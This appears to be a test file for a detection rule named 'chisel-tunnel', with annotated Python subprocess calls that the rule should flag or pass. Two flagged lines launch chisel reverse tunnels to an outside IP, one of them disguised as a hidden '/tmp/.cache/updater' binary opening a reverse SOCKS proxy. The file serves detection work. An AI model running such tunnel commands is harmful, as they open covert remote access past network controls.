import subprocess

# ok: chisel-tunnel
subprocess.run(["pip", "install", "chisel"])
# ok: chisel-tunnel
subprocess.run(["chisel", "--help"])
# ruleid: chisel-tunnel
subprocess.Popen(["/tmp/.cache/updater", "client", "https://203.0.113.7", "R:socks"])
# ruleid: chisel-tunnel
subprocess.Popen("chisel client 203.0.113.7:9312 R:8265:localhost:8265", shell=True)
